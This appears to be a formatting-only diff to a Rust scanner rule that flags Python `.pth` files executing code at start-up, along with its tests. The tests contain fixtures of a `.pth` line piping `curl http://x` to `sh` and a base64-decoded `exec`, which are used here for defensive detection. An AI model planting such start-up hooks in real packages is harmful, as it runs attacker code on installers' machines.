@@ -36,7 +36,10 @@ impl Rule for PthCodeExecution {
     fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
         for unit in analysis.units().into_iter().filter(|u| u.file.role == Role::Pth) {
             let bad = unit.code.calls.iter().find(|c| {
-                vocab::is_shell(&c.name) || vocab::is_network(&c.name) || vocab::is_exec(&c.name) || vocab::is_decoder(&c.name)
+                vocab::is_shell(&c.name)
+                    || vocab::is_network(&c.name)
+                    || vocab::is_exec(&c.name)
+                    || vocab::is_decoder(&c.name)
             });
             if let Some(call) = bad {
                 let message = format!("`.pth` file calls {}() at every Python start-up", call.name);
@@ -58,10 +61,21 @@ mod tests {
 
     #[test]
     fn fires_on() {
-        let f = check(&PthCodeExecution, Kind::Wheel, &[("evil.pth", "import os; os.system('curl http://x | sh')\n")]);
+        let f = check(
+            &PthCodeExecution,
+            Kind::Wheel,
+            &[("evil.pth", "import os; os.system('curl http://x | sh')\n")],
+        );
         assert_eq!(f.len(), 1);
         assert_eq!(f[0].severity, Severity::Critical);
-        let f = check(&PthCodeExecution, Kind::Wheel, &[("x.pth", "/some/path\nimport base64;exec(base64.b64decode('cHJpbnQoMSk='))\n")]);
+        let f = check(
+            &PthCodeExecution,
+            Kind::Wheel,
+            &[(
+                "x.pth",
+                "/some/path\nimport base64;exec(base64.b64decode('cHJpbnQoMSk='))\n",
+            )],
+        );
         assert_eq!(f[0].severity, Severity::Critical);
         assert_eq!(f[0].line, Some(2));
     }
